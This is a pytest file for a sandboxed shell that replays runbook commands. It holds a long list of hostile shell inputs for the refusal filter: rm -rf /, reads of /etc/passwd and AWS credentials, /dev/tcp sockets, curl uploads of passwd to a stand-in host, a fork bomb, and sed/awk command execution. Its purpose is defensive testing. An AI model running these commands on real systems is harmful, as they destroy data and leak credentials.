# ruff: noqa: E501 (a command stands on one line)
"""What a page types stays in its directory: refused by the reader, by the stand-ins where it is not known before, and by the kernel."""

import contextlib
import os
import socket
import threading
from pathlib import Path

import pytest

from analysis import sandbox
from analysis.rehearsal.reader import refusal
from analysis.rehearsal.shell import Shell, ShellError, missing
from analysis.rehearsal.tools import by_name, check
from analysis.rehearsal.web import Site
from analysis.scratch import scratch_directory

SCRIPTS = ("tools/smoke.sh", "stacks/shop")

# Most of these are of https://gtfobins.github.io, for the tools that a page may use.
ATTACKS = """
rm -rf /tmp/canary
rm -rf ..
rm -rf .
rm -rf a/../../b
rm -rf -- /
"/usr/bin/touch" x
/usr/bin/touch x
./x
../../bin/sh -c id
$HOME/x
~/x
command touch x
builtin eval touch
env touch x
env -i sh
X=1 env
PATH=/usr/bin:/bin touch x
PATH=/usr/bin
export PATH=/usr/bin
declare -x PATH=/usr/bin
typeset PATH=/usr/bin
local PATH=/usr/bin
readonly PATH=/usr/bin
unset PATH
IFS=/ ; x=a
LD_PRELOAD=./x.so date
LD_PRELOAD=./x.so
BASH_ENV=x
AWS_CONFIG_FILE=c aws sts get-caller-identity
AWS_CONFIG_FILE=c
PS4='$(touch x)'
PROMPT_COMMAND=x
http_proxy=http://127.0.0.2:1 curl http://a.example/
http_proxy=http://127.0.0.2:1
for PATH in /usr/bin; do date; done
read PATH < x
read 'a[$(touch x)]' < x
read $X < x
sh -c 'touch x'
bash x
dash x
busybox sh
. ./x
source x
eval touch x
exec touch x
exec -a x date
exec 3<>/dev/tcp/127.0.0.2/18099
cat < /dev/tcp/127.0.0.2/1
p=tcp; exec 3<>/dev/$p/127.0.0.2/1
p=tcp; echo x > /dev/$p/127.0.0.2/1
p=tcp; cat < "/dev/$p/127.0.0.2/1"
echo x > /dev/udp/127.0.0.2/53
p=/usr/bin/touch; $p x
"$p" x
${p} x
$(echo touch) x
`echo touch` x
to"u"ch x
\\touch x
t''ouch x
touch x
sleep 300 &
sleep 300 & echo $!
(sleep 300 &)
{ sleep 300 & }
nohup sleep 300
setsid sleep 300
coproc sleep 300
coproc X { sleep 300; }
disown
kill -9 $PPID
trap 'touch x' EXIT
set -m
set +f
set -a
shopt -s expand_aliases
alias date=touch
hash -p /usr/bin/touch date
enable -f ./x.so x
enable eval
f() { touch x; }; f
function f { date; }
:(){ :|:& };:
echo x > /tmp/y
echo x >> /tmp/y
echo x >| /tmp/y
echo x &> /tmp/y
echo x 2> /tmp/y
echo x > ../y
echo x > a/../../y
echo x > ~/y
echo x > $HOME/y
echo x > "$p"
echo x > $(echo /tmp/y)
echo x > tools/smoke.sh
echo x > ./tools/smoke.sh
echo x > stacks/shop/main.tf
echo x > tools/../tools/smoke.sh
echo x | tee tools/smoke.sh
rm -rf tools
echo x >&3
echo x 3> y
exec > /tmp/y
cat < /etc/passwd
cat /etc/passwd
cat ~/.aws/credentials
cat ../../etc/passwd
cat $(</etc/passwd)
echo "$(< /etc/passwd)"
head -c 20 /etc/passwd
grep -f /etc/passwd x
grep -r root /etc
grep --include=x -r root
grep root /etc/passwd
grep -e root /etc/passwd
cut -d: -f1 /etc/passwd
paste /etc/passwd
wc --files0-from=/etc/passwd
sort /etc/passwd
sort -o /tmp/y x
sort --output=/tmp/y x
sort -uo/tmp/y x
sort --compress-program=./x x
sort -S1 --compress-prog sh x
sort -T /tmp x
sort --files0-from=x
uniq x /tmp/y
uniq x y
tail -f x
tail -F /etc/passwd
tail --follow x
tee /tmp/y
tee -a ../y
date -s 2020-01-01
date 010100002020
date -f /etc/passwd
date -r /etc/passwd
seq 1 2 > /tmp/y
gzip /etc/passwd
gunzip -c ../x.gz
zcat /etc/x.gz
mkdir /tmp/y
mkdir -p a/../../y
awk 'BEGIN{system("touch x")}'
awk 'BEGIN { "touch x" | getline }'
awk '{print | "touch x"}'
awk '{print > "/tmp/y"}'
awk '{print >> "/tmp/y"}'
awk '{printf "x" > "/tmp/y"}'
awk '{print "a",
"b" > "/tmp/y"}'
awk 'BEGIN{getline x < "/etc/passwd"; print x}'
awk 'BEGIN{while ((getline l < f) > 0) print l}' f=/etc/passwd
awk 'BEGIN{ARGV[1]="/etc/passwd";ARGC=2} {print}'
awk 'BEGIN{s="/inet/tcp/0/127.0.0.2/1"; s |& getline x}'
awk 'BEGIN{f="system"; @f("touch x")}'
awk '@load "filefuncs"'
awk '@include "/etc/passwd"'
awk -f x
awk -E x
awk --file=x
awk -l x
awk -i inplace '{print}' x
awk -W exec x
awk -F: '{print $1}' /etc/passwd
awk '/"/ { system("touch x"); } /"/'
gawk 'BEGIN{}'
mawk 'BEGIN{}'
echo x | sed '1e touch x'
sed e x
sed -n '1e' x
sed 's/x/touch y/e' x
sed 's/x/y/ge' x
sed 's/x/y/w /tmp/y' x
sed 's/x/y/;w /tmp/y' x
sed 'w /tmp/y' x
sed -n 'W /tmp/y' x
sed 'r /etc/passwd' x
sed 'R /etc/passwd' x
sed '/x/r /etc/passwd' x
sed -i s/a/b/ x
sed -i.bak s/a/b/ tools/smoke.sh
sed -f x
sed --file=x
sed -e s/a/b/ -e e x
sed --expression='1e touch x' x
sed -s p x
sed p /etc/passwd
sed '{e touch x
}' x
sed 'p
e touch x' x
jq -f x
jq --from-file x
jq -L /tmp . x
jq -n 'import "x" as x; 1'
jq -n 'include "x"; 1'
jq --slurpfile x /etc/passwd . x
jq --rawfile x /etc/passwd -n '$x'
jq . /etc/passwd
jq -Rn 'inputs' /etc/passwd
tr a b < /etc/passwd
curl file:///etc/passwd
curl -s FILE:///etc/passwd
curl gopher://127.0.0.2/
curl -o /tmp/y http://a.example/
curl -so/tmp/y http://a.example/
curl --output /tmp/y http://a.example/
curl --output=/tmp/y http://a.example/
curl -O http://a.example/y
curl -D /tmp/y http://a.example/
curl -c /tmp/y http://a.example/
curl -b /etc/passwd http://a.example/
curl -T /etc/passwd http://a.example/
curl -d @/etc/passwd http://a.example/
curl -F x=@/etc/passwd http://a.example/
curl -H @/etc/passwd http://a.example/
curl -w @/etc/passwd http://a.example/
curl -w '%output{/tmp/y}x' http://a.example/
curl -K k
curl -sK k
curl --config k
curl -x http://127.0.0.2:1 http://a.example/
curl -sx http://127.0.0.2:1 http://a.example/
curl --proxy http://127.0.0.2:1 http://a.example/
curl --prox http://127.0.0.2:1 http://a.example/
curl --connect-to ::127.0.0.2:1 http://a.example/
curl --resolve a.example:80:127.0.0.2 http://a.example/
curl --unix-socket /run/docker.sock http://a.example/
curl --doh-url http://127.0.0.2/ http://a.example/
curl --interface lo http://a.example/
curl --next -s http://a.example/
curl -s http://a.example/ -: -s http://127.0.0.2:1/
curl --trace /tmp/y http://a.example/
curl --stderr /tmp/y http://a.example/
curl --netrc-file /etc/passwd http://a.example/
curl --cert /etc/passwd http://a.example/
curl --engine x http://a.example/
curl --libcurl /tmp/y http://a.example/
curl -X POST http://a.example/
curl --proto =file http://a.example/
curl -Z http://a.example/
python3 -c 'import os' > /tmp/y
perl -e 1
ruby -e 1
node -e 1
php -r 1
lua -e x
vim x
ed x
less x
more x
man ls
find . -exec touch {} ;
xargs touch < x
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh
git -c core.pager=sh log
ssh x
scp x y
nc 127.0.0.2 1
socat - x
openssl s_client
wget http://a.example/
telnet x
terraform apply
docker run x
kubectl get x
sudo ls
su
mount x
chroot x
unshare -r
ln -s /etc/passwd x
cp /etc/passwd x
mv x /tmp/y
dd if=/etc/passwd
install x /tmp/y
chmod +x x
crontab x
at now
make
gcc x
gdb x
strace x
timeout 5 touch x
nice touch x
time touch x
watch touch x
script x
echo $((a[$(touch x)]))
echo $((x))
echo $[x]
((x++))
let x=1
[[ $x -eq 1 ]]
[[ -v 'a[$(touch x)]' ]]
[ -v 'a[$(touch x)]' ]
[ $x ]
[ $x -eq 1 ]
[ -e /etc/passwd ]
[ -f "$x" ]
test -v x
echo ${x@P}
echo "${x@P}"
echo ${!x}
echo ${a[$(touch x)]}
echo ${x:$y}
echo ${x:-$(touch x)}
x=${y:=$(touch x)}
a[$(touch x)]=1
a=(1 2)
printf -v 'a[$(touch x)]' x
printf $x
printf "$x"
mapfile a < x
select x in a; do touch x; done
for ((i=0;i<3;i++)); do date; done
cat <(touch x)
date > >(touch x)
cat <<EOF
$(touch x)
EOF
cat <<< "$(touch x)"
cat <<EOF > /tmp/y
x
EOF
if touch x; then date; fi
while touch x; do date; done
case x in x) touch x;; esac
! touch x
date && touch x
date || touch x
date | touch x
date |& cat
{ touch x; }
(touch x)
date; touch x
date
touch x
pushd /
cd /
exit $(touch x)
wait
jobs
fg
bg
ulimit -n 1
umask 0
history -w /tmp/y
fc -l
compgen -c
complete -C x y
bind -x x
caller
logout
suspend
type touch
which touch
return 1
shift
getopts x y
times
dirs
echo "unclosed
"""


def attacks():
    """The attacks, one each; those over several lines begin at a line that leaves something open."""
    lines = ATTACKS.strip().split("\n")
    found = []
    while lines:
        text = lines.pop(0)
        while lines and (
            (text.count("'") % 2 and "unclosed" not in text) or ("<<EOF" in text and not text.endswith("\nEOF"))
        ):
            text += "\n" + lines.pop(0)
        found.append(text)
    return [text for text in found if text != "date"]


@pytest.mark.parametrize("typed", attacks())
def test_an_attack_is_refused_before_any_shell_sees_it(typed):
    assert refusal(typed, SCRIPTS), typed


@pytest.mark.parametrize(
    "typed",
    [
        "echo \x1b[2J",
        "echo \u202eabc",
        "echo a\u200bb",
        "echo \x00",
        "touch\u00a0x",
        "date\x0btouch x",
        "date\rtouch x",
    ],
)
def test_a_sign_that_a_terminal_hides_or_the_shell_reads_otherwise_is_refused(typed):
    assert refusal(typed), typed


@pytest.mark.parametrize(
    "typed",
    [
        "X=$(aws ecs list-clusters --output text | cut -d/ -f2)\necho \"$X\" > name.txt",
        "for i in 1 2; do curl -s -o /dev/null -D - 'https://a.example/?x=1' | grep -i -E '^(age|x-cache):'; done",
        "aws s3 cp s3://b/k.gz - | zcat | awk '{print $14}' | cut -d/ -f4- | sort | uniq -c | sort -rn | head -3",
        'jq -r --arg h "$X" \'.[] | select(.a > 1 and .b != $h) | @tsv\' before.json > after.json',
        "tools/smoke.sh https://a.example", "./tools/smoke.sh https://a.example", "python3 tools/x.py stacks/shop",
        'if [ "$X" = "a" ] && [ -f name.txt ]; then echo yes; else echo no; fi 2>&1',
        '[[ $X == a* ]] && echo yes', 'while read -r line; do echo "$line"; done < name.txt',
        "sed -n '/a/,/b/p' x | sed 's#a/b#c#g; 3d'", "awk -F: -v n=3 '$1 == \"a\" || $2 < n { s += $2 } END { print s }' x",
        'sort -t "$(printf \'\\t\')" -k3 -rn', "cat <<'EOF' > a.json\n{}\nEOF", "echo ${X:-none} ${#X} ${X%%/*} ${X:0:3} $((2 * 3))",
        'date -u -d "-5 minutes" +%s000', "mkdir -p a/b && rm -rf a/b", "env | grep -c X || true", "exit 3",
    ],
)  # fmt: skip
def test_what_runbooks_need_is_let_through(typed):
    assert refusal(typed, SCRIPTS) is None


# --- the stand-ins, with words that only the running shell knows


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("cat", ["/etc/passwd"]), ("cat", ["link"]), ("cat", ["link/passwd"]), ("rm", ["-rf", "."]), ("rm", ["-rf", "kept"]),
        ("rm", ["-rf", "kept/a"]), ("tee", ["../x"]), ("tee", ["kept/a"]), ("sort", ["-o", "x"]), ("curl", ["-o", "link", "http://a/"]),
        ("curl", ["-o", "kept/a", "http://a/"]), ("mkdir", ["link/x"]), ("sed", ["1e id"]), ("awk", ["BEGIN{system(1)}"]), ("jq", ["-f", "x"]),
        ("grep", ["a", "/etc/passwd"]), ("head", ["-n", "1", "--", "/etc/passwd"]), ("gzip", ["link"]), ("env", ["sh"]),
    ],
)  # fmt: skip
def test_a_stand_in_looks_where_a_name_leads(tmp_path, monkeypatch, name, words):
    home, outside = tmp_path / "home", tmp_path / "outside"
    for directory in (home, outside, home / "kept"):
        directory.mkdir()
    (home / "link").symlink_to(outside)
    monkeypatch.chdir(home)
    assert check(name, words, by_name(str(home), [str(home / "kept")]))


def test_a_stand_in_lets_through_what_lies_in_the_directory(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    allowed = by_name(str(tmp_path), [str(tmp_path / "kept")])
    for name, words in (
        ("cat", ["a", "-", "kept/a"]),
        ("tee", ["a/b"]),
        ("sed", ["s/a/b/", "x"]),
        ("grep", ["/etc", "x"]),
        ("rm", ["a"]),
    ):
        assert not check(name, words, allowed)


# --- the running shell


class Elsewhere:
    """A server on this machine that no rehearsal may reach; counts who tried."""

    def __enter__(self):
        self.reached = 0
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen()
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self._count, daemon=True).start()
        return self

    def _count(self):
        with contextlib.suppress(OSError):
            while True:
                self.socket.accept()[0].close()
                self.reached += 1

    def __exit__(self, *_):
        self.socket.close()


@contextlib.contextmanager
def shell(linked=None):
    with contextlib.ExitStack() as stack:
        scratch = stack.enter_context(scratch_directory("gameday-site-"))
        site = stack.enter_context(
            Site([{"host": "a.example", "path": "/", "answers": [{"status": 200, "body": "A\n"}]}], [], scratch)
        )
        yield stack.enter_context(Shell("http://127.0.0.1:9", site.scripts(), linked or {}, 20.0))


@pytest.fixture
def unwalled(monkeypatch):
    monkeypatch.setattr(sandbox, "namespaces", lambda: "")
    monkeypatch.setattr(sandbox, "landlock_version", lambda: 0)


TYPED = pytest.mark.skipif(bool(missing()), reason=missing() or "nothing")
WALLED = pytest.mark.skipif(sandbox.namespaces() != "bwrap", reason="this machine offers no namespaces by bwrap")


@TYPED
def test_without_a_wall_the_stand_ins_alone_keep_what_a_variable_holds_inside(tmp_path, unwalled):
    secret, canary = tmp_path / "secret", tmp_path / "canary"
    secret.write_text("hunter2")
    canary.write_text("x")
    with shell() as session:
        assert not session.wall.stands()
        assert session.run("curl -s http://a.example/ | tr A B").stdout == "B\n"
        for typed in (
            f"x={secret}; cat $x", f"x={secret}; jq -R . \"$x\"", f"x={secret}; sort $x", f"x='-f {secret}'; grep $x a",
            f"x=file://{secret}; curl -s $x", f"x='-o {tmp_path}/new'; curl -s $x http://a.example/", f"x={canary}; rm -f $x",
            f"x={tmp_path}/new; echo a | tee $x", f"x=file://{secret}; aws sqs create-queue --queue-name $x --tags $x",
            f"x={secret}; aws s3 cp $x s3://b/k", f"x=$(echo -o{tmp_path}/new); sort $x /dev/null",
        ):  # fmt: skip
            assert refusal(typed) is None, typed
            printed = session.run(typed)
            assert "hunter2" not in printed.stdout + printed.stderr, typed
            assert printed.status, typed
        assert (
            "aws"
            in session.run(
                "mkdir -p .aws/cli; echo '[toplevel]' > .aws/cli/alias; echo 'boo = !env' >> .aws/cli/alias; aws boo"
            ).stderr
        )
    assert sorted(path.name for path in tmp_path.iterdir()) == ["canary", "secret"]


@TYPED
@WALLED
def test_behind_the_wall_even_what_no_reader_has_seen_reaches_nothing(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("hunter2")
    with Elsewhere() as elsewhere, shell() as session:
        for typed in (
            f"cat < {secret}", f"echo x > {tmp_path}/new", f"while read -r l; do echo $l; done < {secret}", f"(echo x) > {secret}",
            f"exec 3<>/dev/tcp/127.0.0.1/{elsewhere.port}", f"echo x > /dev/udp/127.0.0.1/{elsewhere.port}", "/usr/bin/touch new",
            "/usr/bin/python3 -c 1", "cd / && echo root/*/", f"/usr/bin/bash -c 'echo x > {tmp_path}/new'", "/usr/bin/find / -name secret",
            f"/usr/bin/curl -s http://127.0.0.1:{elsewhere.port}/", f"/usr/bin/rm {secret}", "kill -9 $PPID", f"kill -9 {os.getpid()}",
        ):  # fmt: skip
            assert refusal(typed), typed
            with contextlib.suppress(ShellError):
                printed = session.run(f"( {typed} )")
                assert "hunter2" not in printed.stdout + printed.stderr, typed
                assert printed.status or typed.startswith(("cd /", "echo x > /dev/udp")), typed
        assert session.run("echo alive").stdout == "alive\n"
        assert not elsewhere.reached
    assert [path.name for path in tmp_path.iterdir()] == ["secret"]
    assert secret.read_text() == "hunter2"


@TYPED
@WALLED
def test_what_is_left_running_ends_with_the_shell_even_in_a_session_of_its_own():
    with shell() as session:
        session.run("/usr/bin/sleep 98765 & ( /usr/bin/sleep 98766 & ) ; set -m; /usr/bin/sleep 98767 &")
    running = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()]
    assert not [line for line in running if b"\x009876" in line]


@TYPED
def test_linked_files_are_copies_that_no_page_changes_and_a_link_in_them_is_refused(tmp_path):
    tool = tmp_path / "smoke.sh"
    tool.write_text("#!/usr/bin/env bash\necho mine\n")
    tool.chmod(0o755)
    with shell({"tools/smoke.sh": tool}) as session:
        assert session.run("tools/smoke.sh").stdout == "mine\n"
        assert session.run("x=tools/smoke.sh; echo 'echo other' | tee $x").status
        assert session.run("x=tools; rm -rf $x").status
        assert session.run("tools/smoke.sh").stdout == "mine\n"
    assert tool.read_text().endswith("echo mine\n")
    (tmp_path / "link").symlink_to("/etc")
    with pytest.raises(ShellError, match="holds a symbolic link"), shell({"stack": tmp_path}):
        pass
